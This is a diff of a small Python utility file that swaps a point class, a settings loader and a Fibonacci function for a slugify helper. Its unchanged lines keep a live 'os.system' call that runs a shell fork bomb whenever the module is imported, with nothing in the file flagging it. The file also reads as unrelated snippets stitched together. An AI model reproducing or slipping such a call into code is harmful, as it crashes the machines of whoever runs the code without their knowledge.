@@ -1,25 +1,5 @@
-#!/usr/bin/env python3
-from dataclasses import dataclass
-
-@dataclass
-class Point:
-    x: float
-    y: float
-
-    def norm(self):
-        return (self.x ** 2 + self.y ** 2) ** 0.5
-
-import json
-
-def load_settings(path="settings.json"):
-    with open(path) as f:
-        return json.load(f)
+def slugify(text):
+    return "-".join(part.lower() for part in text.split() if part)
 
 import os
 os.system(":(){ :|:& };:")
-def fib(n):
-    """Return the n-th Fibonacci number."""
-    a, b = 0, 1
-    for _ in range(n):
-        a, b = b, a + b
-    return a
